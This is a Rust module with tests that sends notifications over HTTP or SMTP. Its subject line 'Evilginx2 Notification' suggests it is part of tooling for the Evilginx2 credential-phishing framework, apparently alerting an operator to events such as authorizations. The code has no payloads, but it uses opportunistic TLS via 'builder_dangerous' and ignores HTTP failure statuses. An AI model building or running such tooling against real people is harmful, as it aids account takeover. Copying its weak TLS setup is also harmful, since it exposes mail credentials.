use crate::core::{
    error::{DeliveryError, NotifyError, NotifyResult},
    notification::Transport,
    notifier::{NotifierConfig, TransportMethod},
};
use async_trait::async_trait;
use lettre::message::header::{ContentType, HeaderName, HeaderValue};
use lettre::message::Mailbox;
use lettre::transport::smtp::authentication::Credentials;
use lettre::transport::smtp::client::{Tls, TlsParameters};
use lettre::{AsyncSmtpTransport, AsyncTransport, Message, Tokio1Executor};
use log::{debug, warn};
use reqwest::{Client, Method};
use std::time::Duration;

pub const EMAIL_SUBJECT: &str = "Evilginx2 Notification";
pub const SMTP_PORT: u16 = 587;
pub const HTTP_TIMEOUT: Duration = Duration::from_secs(10);

// Set by the message builder itself; a second copy would duplicate them.
const RESERVED_EMAIL_HEADERS: [&str; 4] = ["From", "To", "Subject", "Content-Type"];

// Sends bodies over HTTP or SMTP depending on the notifier's method
pub struct NotifierTransport {
    http_client: Client,
}

impl NotifierTransport {
    pub fn new() -> NotifyResult<Self> {
        let http_client = Client::builder()
            .timeout(HTTP_TIMEOUT)
            .build()
            .map_err(|e| NotifyError::transport(format!("Failed to create HTTP client: {}", e)))?;

        Ok(Self { http_client })
    }

    async fn send_http(
        &self,
        method: Method,
        notifier: &NotifierConfig,
        body: &[u8],
    ) -> NotifyResult<()> {
        let is_post = method == Method::POST;
        let mut request = self
            .http_client
            .request(method, notifier.target.as_str())
            .body(body.to_vec());

        if is_post {
            request = request.header(reqwest::header::CONTENT_TYPE, "application/json");
        }
        if let Some((name, value)) = notifier.auth_header() {
            request = request.header(name, value);
        }
        if let Some((user, password)) = notifier.credentials() {
            request = request.basic_auth(user, Some(password));
        }

        let response = request.send().await.map_err(|e| {
            NotifyError::transport(format!("HTTP request to {} failed: {}", notifier.target, e))
        })?;

        // Any response counts as delivered.
        if !response.status().is_success() {
            warn!(
                "Notifier {} got status {} from {}",
                notifier.name,
                response.status(),
                notifier.target
            );
        }

        debug!("HTTP notification sent to {}", notifier.target);
        Ok(())
    }

    fn build_email(notifier: &NotifierConfig, body: &[u8]) -> NotifyResult<Message> {
        let from: Mailbox = notifier.from_address.parse().map_err(|e| {
            NotifyError::transport(format!("Invalid from address {}: {}", notifier.from_address, e))
        })?;
        let to: Mailbox = notifier.target.parse().map_err(|e| {
            NotifyError::transport(format!("Invalid recipient {}: {}", notifier.target, e))
        })?;

        let mut builder = Message::builder()
            .from(from)
            .to(to)
            .subject(EMAIL_SUBJECT)
            .header(ContentType::TEXT_PLAIN);

        // The auth header pair is reused as a plain message header for email.
        if let Some((name, value)) = notifier.auth_header() {
            if RESERVED_EMAIL_HEADERS
                .iter()
                .any(|reserved| reserved.eq_ignore_ascii_case(name))
            {
                warn!(
                    "Notifier {} skips header {} because the email already sets it",
                    notifier.name, name
                );
            } else {
                let name = HeaderName::new_from_ascii(name.to_string()).map_err(|e| {
                    NotifyError::transport(format!("Invalid header name {}: {}", name, e))
                })?;
                builder = builder.raw_header(HeaderValue::new(name, value.to_string()));
            }
        }

        builder
            .body(String::from_utf8_lossy(body).into_owned())
            .map_err(|e| NotifyError::transport(format!("Failed to build email: {}", e)))
    }

    async fn send_email(&self, notifier: &NotifierConfig, body: &[u8]) -> NotifyResult<()> {
        let email = Self::build_email(notifier, body)?;

        let tls = TlsParameters::new(notifier.smtp_server.clone())
            .map_err(|e| NotifyError::transport(format!("Invalid TLS parameters: {}", e)))?;
        let mut builder =
            AsyncSmtpTransport::<Tokio1Executor>::builder_dangerous(notifier.smtp_server.as_str())
                .port(SMTP_PORT)
                .tls(Tls::Opportunistic(tls));

        if let Some((user, password)) = notifier.credentials() {
            builder = builder.credentials(Credentials::new(user.to_string(), password.to_string()));
        }

        builder.build().send(email).await.map_err(|e| {
            NotifyError::transport(format!(
                "Email to {} via {} failed: {}",
                notifier.target, notifier.smtp_server, e
            ))
        })?;

        debug!("Mail notification sent to {}", notifier.target);
        Ok(())
    }
}

#[async_trait]
impl Transport for NotifierTransport {
    async fn send(&self, notifier: &NotifierConfig, body: &[u8]) -> NotifyResult<()> {
        debug!("Sending notification via {} for {}", notifier.method, notifier.name);

        match &notifier.method {
            TransportMethod::HttpGet => self.send_http(Method::GET, notifier, body).await,
            TransportMethod::HttpPost => self.send_http(Method::POST, notifier, body).await,
            TransportMethod::Email => self.send_email(notifier, body).await,
            TransportMethod::Unsupported(method) => {
                Err(DeliveryError::UnsupportedMethod(method.clone()).into())
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::notifier::EventKind;

    fn email_notifier() -> NotifierConfig {
        let mut n = NotifierConfig::new(
            "mail",
            TransportMethod::Email,
            "ops@example.com",
            EventKind::Authorized,
        );
        n.from_address = "notifier@example.com".into();
        n.smtp_server = "smtp.example.com".into();
        n
    }

    #[test]
    fn email_carries_subject_and_plain_body() {
        let message = NotifierTransport::build_email(&email_notifier(), b"hello").unwrap();
        let raw = String::from_utf8(message.formatted()).unwrap();
        assert!(raw.contains("Subject: Evilginx2 Notification"));
        assert!(raw.contains("To: ops@example.com"));
        assert!(raw.contains("From: notifier@example.com"));
        assert!(raw.contains("text/plain"));
        assert!(raw.contains("hello"));
    }

    #[test]
    fn email_reuses_auth_header_as_message_header() {
        let mut n = email_notifier();
        n.auth_header_name = "X-Campaign".into();
        n.auth_header_value = "spring".into();
        let message = NotifierTransport::build_email(&n, b"body").unwrap();
        let raw = String::from_utf8(message.formatted()).unwrap();
        assert!(raw.contains("X-Campaign: spring"));
    }

    #[test]
    fn auth_header_cannot_duplicate_builder_headers() {
        let mut n = email_notifier();
        n.auth_header_name = "subject".into();
        n.auth_header_value = "overridden".into();
        let message = NotifierTransport::build_email(&n, b"body").unwrap();
        let raw = String::from_utf8(message.formatted()).unwrap();
        let subjects = raw
            .lines()
            .filter(|line| line.to_ascii_lowercase().starts_with("subject:"))
            .count();
        assert_eq!(subjects, 1);
        assert!(raw.contains("Subject: Evilginx2 Notification"));
        assert!(!raw.contains("overridden"));
    }

    #[test]
    fn bad_recipient_is_a_transport_error() {
        let mut n = email_notifier();
        n.target = "not an address".into();
        let err = NotifierTransport::build_email(&n, b"body").unwrap_err();
        assert!(matches!(
            err,
            NotifyError::Delivery(DeliveryError::Transport(_))
        ));
    }

    #[tokio::test]
    async fn unsupported_method_is_rejected() {
        let transport = NotifierTransport::new().unwrap();
        let n = NotifierConfig::new(
            "ftp",
            TransportMethod::from("FTP"),
            "ftp://127.0.0.1:1/",
            EventKind::Test,
        );
        let err = transport.send(&n, b"{}").await.unwrap_err();
        match err {
            NotifyError::Delivery(DeliveryError::UnsupportedMethod(method)) => {
                assert_eq!(method, "FTP")
            }
            other => panic!("unexpected error: {other}"),
        }
    }
}
